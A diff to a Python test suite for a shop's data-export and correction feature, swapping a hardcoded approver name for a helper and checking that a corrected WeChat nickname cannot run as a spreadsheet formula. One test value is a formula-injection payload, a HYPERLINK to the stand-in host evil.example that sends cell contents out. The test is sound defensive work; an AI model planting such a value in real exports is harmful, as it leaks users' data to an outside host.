@@ -12,7 +12,7 @@ import re
 import zipfile
 
 import pytest
-from conftest import bearer
+from conftest import approver, bearer
 from sqlalchemy import insert, select
 
 from exports.worker import run_pending
@@ -180,13 +180,13 @@ def test_an_english_request_gets_yes_and_no(shop_db, verified, client, rt):
     assert {r["is_default"] for r in _csv(archive, "addresses")} == {"yes", "no"}
 
 
-def test_a_corrected_nickname_cannot_run_as_a_formula(shop_db, verified, client, rt, runner):
+def test_a_corrected_nickname_cannot_run_as_a_formula(shop_db, verified, client, rt, runner, app):
     evil = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
     rid, _ = verified(
         type="correction",
         corrections=[{"category": "account", "field": "wechat_nickname", "value": evil}],
     )
-    result = runner.invoke(args=["requests", "approve", rid, "--by", "li.na"])
+    result = runner.invoke(args=["requests", "approve", rid, "--by", approver(app)])
     assert result.exit_code == 0, result.output
     archive = _export(verified, client, rt)
     account = next(r for r in _csv(archive, "account") if r["record_type"] == "customers")
